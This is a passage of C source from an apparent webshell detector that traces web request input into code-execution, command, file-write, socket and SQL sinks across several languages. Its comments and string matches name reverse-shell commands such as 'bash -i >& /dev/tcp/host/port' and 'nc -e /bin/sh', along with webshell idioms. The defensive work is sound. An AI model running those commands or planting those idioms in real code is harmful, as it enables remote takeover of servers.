/*
 * analyze.c - the analyzer: receives the lexer's tokens, builds statements
 * (joining qualified names and marking `new`), normalises each (fold.c),
 * looks for request input reaching a sink (taint.c), then records what the
 * statement assigned: constants, taint, object types.  A second pass runs
 * when a sink was fed a variable whose taint was only learnt later (a value
 * kept in the session, a loop).  Constant payloads decoded on their way
 * into eval() and friends are analysed again as code, one level deeper.
 */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>

#include "lang/analyze.h"
#include "util/util.h"

double lang_now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void analyze_payload(lang_ctx *c, const name_def *d, const char *code, size_t n, syntax syn,
                            const char *prefix, unsigned line);
static void embedded_pages(lang_ctx *c);

static void add_detection(lang_ctx *c, const char *rule, const char *category, int score, unsigned line,
                   const char *fmt, ...) {
  lang_result *r = c->res;
  unsigned l = c->level ? c->outer_line : line;
  if (score > 100) score = 100;
  lang_detection *d = NULL;
  for (size_t k = 0; k < r->ndet; k++)
    if (strcmp(r->det[k].rule, rule) == 0 && r->det[k].line == l) {
      if (r->det[k].score >= score) return;
      d = &r->det[k];
    }
  if (!d && r->ndet < LANG_MAX_DETECTIONS) d = &r->det[r->ndet++];
  if (!d) { /* full: replace the weakest if this one is stronger */
    for (size_t k = 0; k < r->ndet; k++)
      if (!d || r->det[k].score < d->score) d = &r->det[k];
    if (d->score >= score) return;
  }
  d->rule = rule;
  d->category = category;
  d->score = score;
  d->line = l;
  size_t o = 0;
  if (c->prefix) o = (size_t)snprintf(d->description, sizeof d->description, "%s", c->prefix);
  if (o >= sizeof d->description) o = sizeof d->description - 1;
  va_list ap;
  va_start(ap, fmt);
  vsnprintf(d->description + o, sizeof d->description - o, fmt, ap);
  va_end(ap);
}

/* ---- statements -------------------------------------------------------- */

static inline __attribute__((always_inline)) int is_op(const lang_ctx *c, size_t i, const char *op) {
  return i < c->nst && tok_is(c, &c->st[i], TK_OP, op);
}

/* The index of the statement's assignment operator, or nst. */
static size_t find_assign(const lang_ctx *c) {
  static const char *const vb_not[] = {"if", "elseif", "while", "until", "do", "loop", "case", "select", "return"};
  if (c->syn == SYN_VB && c->nst && c->st[0].kind == TK_IDENT)
    for (size_t k = 0; k < sizeof vb_not / sizeof vb_not[0]; k++)
      if (tok_is(c, &c->st[0], TK_IDENT, vb_not[k])) return c->nst;
  int depth = 0;
  for (size_t i = 0; i < c->nst; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_OP) continue;
    const char *s = tok_text(c, t);
    if (t->len == 1 && (s[0] == '(' || s[0] == '[')) depth++;
    else if (t->len == 1 && (s[0] == ')' || s[0] == ']')) depth--;
    else if (depth == 0 && i > 0 && (tok_is(c, t, TK_OP, "=") || tok_is(c, t, TK_OP, ".=") ||
                                      tok_is(c, t, TK_OP, "+=") || tok_is(c, t, TK_OP, "&=")))
      return i;
  }
  return c->nst;
}

/* The variable an assignment at eq writes: $a, $a['k'] -> $a, x. */
static const token *assign_target(const lang_ctx *c, size_t eq) {
  size_t t = eq - 1;
  if (c->syn == SYN_VB) /* Dim x As String = ... */
    for (size_t k = 1; k + 1 < eq; k++)
      if (tok_is(c, &c->st[k], TK_IDENT, "as")) {
        t = k - 1;
        break;
      }
  int vb_index = c->syn == SYN_VB && is_op(c, t, ")");
  if (is_op(c, t, "]") || vb_index) {
    const char *close = vb_index ? ")" : "]", *open = vb_index ? "(" : "[";
    int depth = 0;
    for (;; t--) {
      if (is_op(c, t, close)) depth++;
      else if (is_op(c, t, open) && --depth == 0) break;
      if (t == 0) return NULL;
    }
    if (t == 0) return NULL;
    t--;
  }
  const token *tk = &c->st[t];
  return tk->kind == TK_VAR || (tk->kind == TK_IDENT && !(tk->flags & TF_NEW)) ? tk : NULL;
}

/* The k-th (1-based) top-level argument of a call spanning [a, b). */
static int arg_span(const lang_ctx *c, size_t a, size_t b, unsigned k, size_t *s, size_t *e) {
  int depth = 0;
  unsigned n = 1;
  *s = a;
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind == TK_OP && t->len == 1 && strchr("([{", tok_text(c, t)[0])) depth++;
    else if (t->kind == TK_OP && t->len == 1 && strchr(")]}", tok_text(c, t)[0])) depth--;
    else if (depth == 0 && is_op(c, i, ",")) {
      if (n == k) { *e = i; return *e > *s; }
      n++;
      *s = i + 1;
    }
  }
  *e = b;
  return n == k && *e > *s;
}

/* The type an object-creating expression at st[i] makes, in out. */
static int creator_type(lang_ctx *c, size_t i, char *out, size_t outsz) {
  const token *t = &c->st[i];
  if (t->kind != TK_IDENT) return 0;
  const char *s = tok_text(c, t);
  const name_def *d = lang_names_lookup(s, t->len, c->syn);
  if ((t->flags & TF_NEW) && (strstr(s, "managementclass") || strstr(s, "managementobject")) &&
      is_op(c, i + 1, "(")) {
    /* new ManagementClass("Win32_Process"), ("root\\cimv2", "Win32_Process", null): the WMI class */
    size_t close = lang_match_close(c, i + 1);
    for (size_t k = i + 2; k < close; k++)
      if (c->st[k].kind == TK_STR && c->st[k].len > 6 && strncasecmp(tok_text(c, &c->st[k]), "win32_", 6) == 0)
        return lang_lower_copy(out, outsz, tok_text(c, &c->st[k]), c->st[k].len), 1;
  }
  if ((t->flags & TF_NEW) && !(d && d->kind == N_SINK && d->id == SK_CREATE)) {
    const char *dot = strrchr(s, '.');
    snprintf(out, outsz, "%s", dot ? dot + 1 : s);
    return 1;
  }
  if (d && d->kind == N_SINK && d->id == SK_CREATE) {
    if (strstr(d->name, "getengineby")) return snprintf(out, outsz, "scriptengine"), 1;
    if (i + 2 < c->nst && is_op(c, i + 1, "(") && c->st[i + 2].kind == TK_STR) {
      size_t at = i + 2;
      /* CFML createObject("java", "java.lang.Runtime"): the class is the second */
      if (is_op(c, i + 3, ",") && i + 4 < c->nst && c->st[i + 4].kind == TK_STR) at = i + 4;
      const char *v = tok_text(c, &c->st[at]);
      size_t n = 0;
      for (; v[n] && n + 1 < outsz; n++) out[n] = (char)(v[n] >= 'A' && v[n] <= 'Z' ? v[n] + 32 : v[n]);
      out[n] = '\0';
      /* a versioned ProgID names the same class: MSScriptControl.ScriptControl.1 */
      while (n > 2 && out[n - 1] >= '0' && out[n - 1] <= '9') n--;
      if (n > 2 && n < strlen(out) && out[n - 1] == '.') out[n - 1] = '\0';
      lang_moniker_class(out, outsz); /* GetObject("new:{CLSID}"), ("winmgmts:...:Win32_Process") */
      return 1;
    }
    return 0;
  }
  if (is_op(c, i + 1, "(") && is_op(c, i + 2, ")")) { /* Runtime.getRuntime() */
    snprintf(out, outsz, "%s()", s);
    return 1;
  }
  return 0;
}

/* Request input that went through a function we cannot see into may have
 * been checked there: medium, not critical. */
static int strength(const taint *t) {
  return t->flags & TA_CALLED ? 65 : 90 + 2 * (t->nchain > 0);
}

static const char *called_note(const taint *t) {
  return t->flags & TA_CALLED ? " through a function call" : "";
}

static void chain_note(const taint *t, char *out, size_t outsz) {
  char chain[160];
  lang_chain_text(t->chain, t->nchain, t->via, chain, sizeof chain);
  if (*chain) snprintf(out, outsz, " after %s", chain);
  else *out = '\0';
}

static int under_web_root(const lang_ctx *c, size_t a, size_t b) {
  static const char *const marks[] = {"getrealpath", "mappath", "__dir__", "__file__", "document_root",
                                      "expandpath", "getcurrenttemplatepath", "getbasetemplatepath"};
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_IDENT && t->kind != TK_STR) continue;
    char low[48];
    size_t n = t->len < sizeof low - 1 ? t->len : sizeof low - 1;
    for (size_t k = 0; k < n; k++) {
      char ch = tok_text(c, t)[t->len - n + k];
      low[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
    }
    low[n] = '\0';
    for (size_t k = 0; k < sizeof marks / sizeof marks[0]; k++)
      if (strstr(low, marks[k])) return 1;
  }
  return 0;
}

static int has_script_ext(const lang_ctx *c, size_t a, size_t b) {
  static const char *const exts[] = {".php", ".phtml", ".asp", ".aspx", ".ashx", ".jsp", ".jspx", ".cfm", ".cfc"};
  for (size_t i = a; i < b; i++) {
    if (c->st[i].kind != TK_STR) continue;
    const char *s = tok_text(c, &c->st[i]);
    for (size_t k = 0; k < sizeof exts / sizeof exts[0]; k++)
      if (strstr(s, exts[k])) return 1;
  }
  return 0;
}

/* Execute(UnEncode(hu)) with hu a constant: a function of this page, not
 * a built-in, turns constants into the code run; *name gets its name. */
static int runtime_decoded(const lang_ctx *c, size_t a, size_t b, char *name, size_t namesz) {
  /* one call, or calls joined by concatenation: d(6) & d(10) & ... */
  const token *f = &c->st[a];
  int strings = 0, calls = 0;
  for (size_t i = a; i < b;) {
    const token *g = &c->st[i];
    if (g->kind != TK_IDENT || !is_op(c, i + 1, "(") || strchr(tok_text(c, g), '.')) return 0;
    const name_def *d = lang_names_lookup(tok_text(c, g), g->len, c->syn);
    size_t close = lang_match_close(c, i + 1);
    if (close >= b || close < i + 3) return 0;
    if (d && d->kind == N_DECODER) { /* Execute(Unescape(x)) of a value built at run time */
      strings++;
    } else if (d || g->len != f->len || memcmp(tok_text(c, g), tok_text(c, f), f->len) != 0) {
      return 0;
    } else {
      for (size_t k = i + 2; k < close; k++) {
        const token *t = &c->st[k];
        if (t->kind == TK_STR) strings += t->len >= 16;
        else if (t->kind != TK_NUM && !is_op(c, k, ",")) return 0;
      }
    }
    calls++;
    i = close + 1;
    if (i < b && !(is_op(c, i, "&") || is_op(c, i, "+"))) return 0;
    if (i < b) i++;
  }
  if (!strings && calls < 4) return 0; /* short numeric arguments: a lookup, unless many are joined */
  snprintf(name, namesz, "%.60s", tok_text(c, f));
  return 1;
}

/* Execute(fso.OpenTextFile(p).ReadAll), Execute(s) with s = st.ReadText:
 * code kept in another file (an image, a log) and run from there. */
static int reads_file(lang_ctx *c, size_t a, size_t b) {
  static const char *const reads[] = {"readall", "readtext", "readtoend", "readalltext"};
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_IDENT) continue;
    const char *s = tok_text(c, t), *dot = strrchr(s, '.'), *last = dot ? dot + 1 : s;
    for (size_t k = 0; (dot || (i > a && is_op(c, i - 1, "."))) && k < sizeof reads / sizeof reads[0]; k++)
      if (strcmp(last, reads[k]) == 0) return 1; /* x.ReadAll, OpenTextFile(p).ReadAll */
    sym *sy = lang_sym_get(c, s, t->len, 0);
    if (sy && sy->has_type && sy->type_len == 8 && memcmp(c->persist.buf + sy->type_off, "fileread", 8) == 0)
      return 1;
  }
  return 0;
}

/* A constant command line that hands a shell to a remote host:
 * "bash -i >& /dev/tcp/host/port 0>&1", "nc -e /bin/sh host port". */
static int reverse_shell(const lang_ctx *c, size_t a, size_t b) {
  for (size_t i = a; i < b; i++) {
    const token *t = &c->st[i];
    if (t->kind != TK_STR) continue;
    const char *s = tok_text(c, t);
    if (memmem(s, t->len, "/dev/tcp/", 9) || memmem(s, t->len, "/dev/udp/", 9) ||
        ((memmem(s, t->len, "nc ", 3) || memmem(s, t->len, "ncat ", 5)) &&
         (memmem(s, t->len, " -e /bin/", 9) || memmem(s, t->len, " -e cmd", 7))))
      return 1;
  }
  return 0;
}

/* new FileStream(path, FileMode.Create): a stream opened to write. */
static int opens_for_writing(const lang_ctx *c, size_t a, size_t b) {
  static const char *const modes[] = {"filemode.create", "filemode.createnew", "filemode.append",
                                      "filemode.openorcreate", "filemode.truncate", "fileaccess.write"};
  for (size_t i = a; i < b; i++) {
    if (c->st[i].kind != TK_IDENT) continue;
    const char *s = tok_text(c, &c->st[i]);
    for (size_t k = 0; k < sizeof modes / sizeof modes[0]; k++) {
      size_t m = strlen(modes[k]);
      if (c->st[i].len >= m && strcmp(s + c->st[i].len - m, modes[k]) == 0) return 1;
    }
  }
  return 0;
}

/* The value of attribute cfattr.<name> in a CFML tag call st[a, b). */
static int cf_attr(const lang_ctx *c, size_t a, size_t b, const char *name, size_t *s, size_t *e) {
  char want[48];
  snprintf(want, sizeof want, "cfattr.%s", name);
  for (unsigned k = 1; arg_span(c, a, b, k, s, e); k++)
    if (*e > *s + 2 && tok_is(c, &c->st[*s], TK_IDENT, want) && is_op(c, *s + 1, "=")) {
      *s += 2;
      return 1;
    }
  return 0;
}

/* <cffile action="write|upload|copy|move">: the path is an attribute.  An
 * upload keeps the client's file name unless told otherwise, so one
 * stored under the web root with no accept= list of types is an
 * uploader.  Returns 1 when the tag was a CFML one (checked here). */
static int cf_tag_write(lang_ctx *c, const name_def *d, unsigned line, size_t a, size_t b) {
  size_t s, e, vs, ve;
  taint t = {0};
  if (strcmp(d->name, "cfhttp") == 0) { /* path= (and file=) save what it fetches */
    if (!cf_attr(c, a, b, "path", &s, &e)) return 1;
    if (cf_attr(c, a, b, "url", &vs, &ve) && lang_span_taint(c, vs, ve, &t) && !(t.flags & TA_CALLED) &&
        (under_web_root(c, s, e) || (cf_attr(c, a, b, "file", &vs, &ve) && (has_script_ext(c, vs, ve) ||
                                                                           lang_span_taint(c, vs, ve, &t)))))
      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s chooses what <cfhttp> downloads into the web root (line %u)", t.src, line);
    else if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED))
      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s chooses where <cfhttp> saves what it downloads (line %u)", t.src, line);
    return 1;
  }
  if (strcmp(d->name, "cffile.upload") == 0) {
    if (!cf_attr(c, a, b, "destination", &s, &e)) return 1;
    int accept = cf_attr(c, a, b, "accept", &vs, &ve) && ve == vs + 1 && c->st[vs].kind == TK_STR &&
                 !strstr(tok_text(c, &c->st[vs]), "*");
    if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED))
      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s chooses where <cffile action=\"upload\"> stores a file (line %u)", t.src, line);
    else if (!accept && under_web_root(c, s, e))
      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "<cffile action=\"upload\"> stores any file the client sends, under its own name, in the web "
                    "root (line %u)", line);
    return 1;
  }
  if (!cf_attr(c, a, b, strcmp(d->name, "cffile.write") == 0 ? "file" : "destination", &s, &e)) return 1;
  if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED) && ((t.flags & TA_PURE) || under_web_root(c, s, e)))
    add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                  "request input %s chooses the path %s writes (line %u)", t.src, d->display, line);
  else if (has_script_ext(c, s, e) && cf_attr(c, a, b, "output", &vs, &ve) && lang_span_taint(c, vs, ve, &t))
    add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                  "request input %s is written by %s to a script file (line %u)", t.src, d->display, line);
  return 1;
}

/* A dangerous call d (shown as display) at line with arguments st[a, b). */
static void check_sink(lang_ctx *c, const name_def *d, const char *display, unsigned line, size_t a,
                       size_t b) {
  taint t = {0};
  char note[200];
  size_t s, e;
  switch (d->id) {
  case SK_CODE:
  case SK_LOAD:
    if ((d->flags & NF_BODYONLY) && lang_span_taint(c, a, b, &t)) {
      if (t.flags & TA_BODY) /* new ObjectInputStream(request.getInputStream()) */
        add_detection(c, "shellsift.lang.code-load", "webshell", 60, line,
                      "the request body %s is deserialized by %s: a gadget chain sent in it runs code (line %u)",
                      t.src, display, line);
      break;
    }
    if (d->flags & NF_BODYONLY) break;
    if (lang_span_taint(c, a, b, &t)) {
      chain_note(&t, note, sizeof note);
      if (t.flags & TA_DECRYPT)
        add_detection(c, "shellsift.lang.encrypted-channel", "webshell", 95, line,
                      "request input %s is decrypted (%s) and run as code by %s (line %u)", t.src,
                      t.via[0] ? t.via : "XOR", display, line);
      else if (d->id == SK_LOAD)
        add_detection(c, "shellsift.lang.code-load", "webshell", strength(&t), line,
                      "request input %s is loaded as code by %s%s%s (line %u)", t.src, display, note,
                      called_note(&t), line);
      else
        add_detection(c, "shellsift.lang.code-exec", "webshell", strength(&t), line,
                      "request input %s reaches %s%s%s (line %u)", t.src, display, note, called_note(&t), line);
    } else if (d->id == SK_CODE && b > a && c->st[a].kind == TK_STR && c->st[a].nchain &&
               !(c->st[a].flags & TF_INTERP)) {
      const token *p = &c->st[a];
      char chain[160], prefix[256];
      lang_chain_text(p->chain, p->nchain, NULL, chain, sizeof chain);
      snprintf(prefix, sizeof prefix, "code hidden by %s and run by %s (line %u): ", chain, display, line);
      size_t before = c->res->ndet;
      if (!(p->flags & TF_BINARY)) /* bytes that are not text are not code to read again */
        analyze_payload(c, d, tok_text(c, p), p->len, c->syn, prefix, line);
      if (c->res->ndet == before)
        add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                      "%s runs code hidden by %s (line %u)", display, chain, line);
    } else if (d->id == SK_CODE && c->syn != SYN_PHP && b > a && c->st[a].kind == TK_STR &&
               !(c->st[a].flags & (TF_INTERP | TF_BINARY)) && (b == a + 1 || is_op(c, a + 1, ",")) &&
               c->st[a].len >= 3) {
      /* Execute "eval(request(""x""))": the string is code; read it */
      char prefix[160];
      snprintf(prefix, sizeof prefix, "code in a string run by %s (line %u): ", display, line);
      analyze_payload(c, d, tok_text(c, &c->st[a]), c->st[a].len, c->syn, prefix, line);
    } else if (b > a && c->st[a].kind != TK_STR) {
      c->want_repass = 1;
      if (c->syn == SYN_JSCRIPT && d->id == SK_CODE && arg_span(c, a, b, 2, &s, &e) && e == s + 1 &&
          c->st[s].kind == TK_STR && strncmp(tok_text(c, &c->st[s]), "unsafe", 6) == 0)
        add_detection(c, "shellsift.lang.code-exec", "webshell", 60, line,
                      "%s runs a string with full trust (\"unsafe\", the China Chopper form) (line %u)", display,
                      line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && reads_file(c, a, b))
        add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                      "%s runs code read from a file (line %u)", display, line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && lang_decoded_value(c, a, b, note, sizeof note))
        add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                      "%s runs code that the page's decoder %s() returns (line %u)", display, note, line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && runtime_decoded(c, a, b, note, sizeof note))
        add_detection(c, "shellsift.lang.decoded-payload", "webshell", 55, line,
                      "%s runs code that %s() builds at run time from a constant (line %u)", display, note, line);
      else if ((c->syn == SYN_VB || c->syn == SYN_JSCRIPT) && !c->dyn_line)
        c->dyn_line = line, c->dyn_display = d->display;
    }
    break;
  case SK_CMD:
    if (d->arg && arg_span(c, a, b, d->arg, &s, &e)) a = s, b = e; /* exec($cmd, $output): the command */
    if (c->syn != SYN_PHP && reverse_shell(c, a, b)) {
      add_detection(c, "shellsift.lang.command-exec", "webshell", 80, line,
                    "%s starts a reverse shell: the command sends a shell to a remote host (line %u)", display, line);
      break;
    }
    if (lang_span_taint(c, a, b, &t)) {
      chain_note(&t, note, sizeof note);
      add_detection(c, "shellsift.lang.command-exec", "webshell", strength(&t), line,
                    "request input %s reaches %s%s%s (line %u)", t.src, display, note, called_note(&t), line);
    } else {
      c->want_repass = 1;
    }
    break;
  case SK_CALLBACK:
    if (!arg_span(c, a, b, d->arg, &s, &e)) break;
    if (lang_span_taint(c, s, e, &t) && !(t.flags & TA_CALLED)) {
      add_detection(c, "shellsift.lang.callback", "webshell", 85, line,
                    "request input %s chooses the function %s calls (line %u)", t.src, display, line);
    } else if (e == s + 1 && c->st[s].kind == TK_STR) {
      const token *f = &c->st[s];
      char name[64];
      size_t n = f->len < sizeof name - 1 ? f->len : sizeof name - 1;
      for (size_t k = 0; k < n; k++) {
        char ch = tok_text(c, f)[k];
        name[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
      }
      name[n] = '\0';
      const name_def *inner = lang_names_lookup(name, n, c->syn);
      if (inner && inner->kind == N_SINK && (inner->id == SK_CODE || inner->id == SK_CMD) &&
          (lang_span_taint(c, a, s, &t) || lang_span_taint(c, e, b, &t)))
        add_detection(c, inner->id == SK_CMD ? "shellsift.lang.command-exec" : "shellsift.lang.code-exec",
                      "webshell", 90, line, "request input %s reaches %s through %s (line %u)", t.src,
                      inner->display, display, line);
    } else {
      c->want_repass = 1;
    }
    break;
  case SK_INCLUDE: /* the whole path from the request: include $_GET['f'] */
    if (lang_span_taint(c, a, b, &t) && (t.flags & TA_PURE) && !(t.flags & TA_CALLED))
      add_detection(c, "shellsift.lang.include", "webshell", 60, line,
                    "request input %s chooses the file %s loads (line %u)", t.src, display, line);
    break;
  case SK_WRITE:
    if (c->syn == SYN_CFML && cf_tag_write(c, d, line, a, b)) break;
    if (d->arg == 0) s = a, e = b; /* the object is the path: fi.CreateText() */
    else if (!arg_span(c, a, b, d->arg, &s, &e)) break;
    if (strcmp(d->name, "filestream") == 0 && !opens_for_writing(c, a, b)) break;
    /* the whole path, the client's own name for the uploaded file, or a
     * request-chosen name under the web root */
    if (lang_span_taint(c, s, e, &t) && !(t.flags & (TA_CALLED | TA_TMPNAME)) &&
        ((t.flags & (TA_PURE | TA_UPNAME)) || under_web_root(c, s, e)))
      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s chooses the path %s writes (line %u)", t.src, display, line);
    else if (has_script_ext(c, s, e) && (lang_span_taint(c, a, s, &t) || lang_span_taint(c, e, b, &t)))
      add_detection(c, "shellsift.lang.uploader", "uploader", 70, line,
                    "request input %s is written by %s to a script file (line %u)", t.src, display, line);
    else if (has_script_ext(c, s, e) && !c->script_write_line) /* page_verdicts: with a fetch, a dropper */
      c->script_write_line = line, c->script_write_display = d->display;
    break;
  case SK_SOCKET: /* IPAddress.Parse(...) is still the request's address: no TA_CALLED test */
    if (strcmp(d->display, "java.net.URL") == 0) { /* a fetch, not a socket: an open proxy or a flooder */
      if (lang_span_taint(c, a, b, &t) && (t.flags & TA_PURE))
        add_detection(c, "shellsift.lang.tunnel", "tunnel", 55, line,
                      "request input %s chooses the URL the server fetches with %s (line %u)", t.src, display, line);
      break;
    }
    if (lang_span_taint(c, a, b, &t))
      add_detection(c, "shellsift.lang.tunnel", "tunnel", t.flags & TA_CALLED ? 60 : 70, line,
                    "request input %s chooses where %s connects (line %u)", t.src, display, line);
    break;
  case SK_SQL:
    if (c->syn == SYN_CFML && cf_attr(c, a, b, "sql", &s, &e)) a = s, b = e; /* <cfquery>: its body */
    for (unsigned k = 1; arg_span(c, a, b, k, &s, &e); k++)
      if (lang_span_taint(c, s, e, &t) && (t.flags & TA_PURE) && !(t.flags & TA_CALLED)) {
        if (d->flags & NF_CONN) /* dual-use, as a database console is: medium */
          add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
                        "request input %s chooses the database %s connects to (line %u)", t.src, display, line);
        else
          add_detection(c, "shellsift.lang.sql-console", "webshell", 50, line,
                        "request input %s is run as a whole SQL statement by %s (line %u)", t.src, display, line);
        break;
      }
    break;
  case SK_PREG:
    if (!arg_span(c, a, b, 1, &s, &e)) break;
    if (e == s + 1 && c->st[s].kind == TK_STR) {
      const char *pat = tok_text(c, &c->st[s]);
      const char *mods = NULL;
      if (c->st[s].len > 2) { /* modifiers follow the closing delimiter */
        char delim = pat[0] == '(' ? ')' : pat[0] == '{' ? '}' : pat[0] == '[' ? ']' : pat[0];
        mods = strrchr(pat + 1, delim);
      }
      if (mods && strchr(mods, 'e') && lang_span_taint(c, e, b, &t))
        add_detection(c, "shellsift.lang.code-exec", "webshell", 90, line,
                      "request input %s reaches %s (line %u)", t.src, display, line);
    } else if (lang_span_taint(c, s, e, &t)) {
      add_detection(c, "shellsift.lang.code-exec", "webshell", 80, line,
                    "request input %s chooses the pattern and modifiers of %s (line %u)", t.src, display, line);
    }
    break;
  default: break;
  }
}

/* The call name st[i] stands for: a method on a typed variable or on an
 * object just created resolves to "type.method". */
static int resolve_call(lang_ctx *c, size_t i, char *out, size_t outsz) {
  const token *t = &c->st[i];
  const char *s = tok_text(c, t);
  const char *dot = memchr(s, '.', t->len);
  if (dot) {
    sym *sy = lang_sym_get(c, s, (size_t)(dot - s), 0);
    if (sy && sy->has_type) {
      snprintf(out, outsz, "%s%s", c->persist.buf + sy->type_off, dot);
      return 1;
    }
  }
  if (i >= 2 && is_op(c, i - 1, ".") && is_op(c, i - 2, ")")) {
    /* X(...).name: X's type */
    int depth = 0;
    for (size_t k = i - 2;; k--) {
      if (is_op(c, k, ")")) depth++;
      else if (is_op(c, k, "(") && --depth == 0) {
        char type[64];
        if (k > 0 && creator_type(c, k - 1, type, sizeof type)) {
          snprintf(out, outsz, "%s.%s", type, s);
          return 1;
        }
        break;
      }
      if (k == 0) break;
    }
  }
  return 0;
}

static int is_keyword_before_call(const lang_ctx *c, const token *p) {
  static const char *const ok[] = {"return", "else", "await", "throw", "yield", "echo", "print", "do", "then", "call", "and", "or", "not"};
  for (size_t k = 0; k < sizeof ok / sizeof ok[0]; k++)
    if (tok_is(c, p, TK_IDENT, ok[k])) return 1;
  return 0;
}

static void note_wrapper_sink(lang_ctx *c, const name_def *d) {
  if (c->fn && (d->id == SK_CODE || d->id == SK_CMD || d->id == SK_LOAD ||
                ((d->id == SK_SQL || d->id == SK_SOCKET) && c->syn != SYN_PHP)) &&
      !c->wrappers[c->fn - 1].sink)
    c->wrappers[c->fn - 1].sink = d;
}

static void find_sinks(lang_ctx *c) {
  for (size_t i = 0; i < c->nst; i++) {
    token *t = &c->st[i];
    int paren = is_op(c, i + 1, "(");
    size_t a = paren ? i + 2 : i + 1, b = paren ? lang_match_close(c, i + 1) : c->nst;
    if (paren && i == 0 && c->syn == SYN_VB && b + 1 < c->nst)
      a = i + 1, b = c->nst; /* obj.Run ("cmd" & " /c ") & x, 0: a VB statement call's arguments run to its end */
    taint tt;
    if (t->kind == TK_BTICK) {
      if (lang_span_taint(c, i, i + 1, &tt))
        add_detection(c, "shellsift.lang.command-exec", "webshell", 90, t->line,
                      "request input %s reaches the backtick operator (line %u)", tt.src, t->line);
      continue;
    }
    if (t->kind == TK_OP && c->fn && tok_is(c, t, TK_OP, "^")) c->wrappers[c->fn - 1].xor = 1;
    if (t->kind == TK_STR && c->fn && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) lang_note_decoder_literal(c, t);
    if (t->kind == TK_IDENT && c->fn && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) lang_note_decoder_shape(c, t);
    if (t->kind == TK_IDENT && c->syn == SYN_JAVA && is_op(c, i + 1, "(")) lang_note_registration(c, t);
    if (c->syn == SYN_JSCRIPT && !paren && !c->alias_line && tok_is(c, t, TK_IDENT, "eval") &&
        !(i > 0 && (is_op(c, i - 1, ".") || tok_is(c, &c->st[i - 1], TK_IDENT, "function"))))
      c->alias_line = t->line; /* {'E': eval}, return eval: called later under another name */
    if (c->syn == SYN_PHP && paren && (t->kind == TK_VAR || is_op(c, i, "]")) &&
        !(i > 0 && (is_op(c, i - 1, "->") || is_op(c, i - 1, "::") || is_op(c, i - 1, "?->")))) {
      /* $f(...) or $_GET['a'](...): the callee is a variable */
      size_t from = i;
      if (t->kind != TK_VAR) { /* back to the variable indexed */
        int depth = 0;
        for (;; from--) {
          if (is_op(c, from, "]")) depth++;
          else if (is_op(c, from, "[") && --depth == 0) break;
          if (from == 0) break;
        }
        if (from == 0) continue;
        from--;
      }
      if (lang_span_taint(c, from, i + 1, &tt) && !(tt.flags & TA_CALLED))
        add_detection(c, "shellsift.lang.callback", "webshell", 85, t->line,
                      "request input %s is called as a function (line %u)", tt.src, t->line);
      continue;
    }
    const name_def *d = NULL;
    char display[96], via[80] = "";
    if (t->kind == TK_STR && paren && c->syn == SYN_PHP && (t->flags & TF_CONST) && t->len < 48) {
      /* $f = 'assert'; $f(...) after substitution */
      char name[48];
      for (size_t k = 0; k <= t->len; k++) {
        char ch = tok_text(c, t)[k];
        name[k] = (char)(ch >= 'A' && ch <= 'Z' ? ch + 32 : ch);
      }
      d = lang_names_lookup(name, t->len, c->syn);
      char var[40];
      lang_quote_source(c, t->src_off, t->src_end, var, sizeof var);
      snprintf(via, sizeof via, " through variable function %s", var);
    } else if (t->kind == TK_IDENT) {
      const token *p = i > 0 ? &c->st[i - 1] : NULL;
      if (p && (tok_is(c, p, TK_OP, "->") || tok_is(c, p, TK_OP, "::") || tok_is(c, p, TK_IDENT, "function") ||
                tok_is(c, p, TK_IDENT, "sub")))
        continue;
      if (p && paren && c->syn != SYN_PHP && c->syn != SYN_VB && p->kind == TK_IDENT &&
          !(t->flags & TF_NEW) && !is_keyword_before_call(c, p))
        continue; /* a declaration: Type name(...) */
      char name[160];
      if (resolve_call(c, i, name, sizeof name)) d = lang_names_lookup(name, strlen(name), c->syn);
      if (!d) d = lang_names_lookup(tok_text(c, t), t->len, c->syn);
      if (!d && !c->late_types && (c->syn == SYN_VB || c->syn == SYN_JSCRIPT)) {
        /* sh.Run x before the Set sh = CreateObject(...) that a page function holds */
        const char *s = tok_text(c, t), *dot = strrchr(s, '.');
        c->late_types = dot && lang_names_is_object_member(dot + 1, t->len - (size_t)(dot + 1 - s), c->syn);
      }
      if (d && (d->kind == N_BUILDER || d->kind == N_DECODER) && paren) c->builders++;
      if (!d || d->kind != N_SINK) {
        /* a user function wrapping a sink */
        const char *s = tok_text(c, t);
        const char *last = strrchr(s, '.');
        last = last ? last + 1 : s;
        for (size_t k = 0; paren && k < c->nwrappers; k++)
          if (c->wrappers[k].sink && strcmp(c->wrappers[k].name, last) == 0 && (int)k + 1 != c->fn) {
            d = c->wrappers[k].sink;
            snprintf(via, sizeof via, " (inside %s())", last);
          }
      }
      if ((t->flags & TF_NEW) && strstr(tok_text(c, t), "processstartinfo")) c->saw_psi = 1;
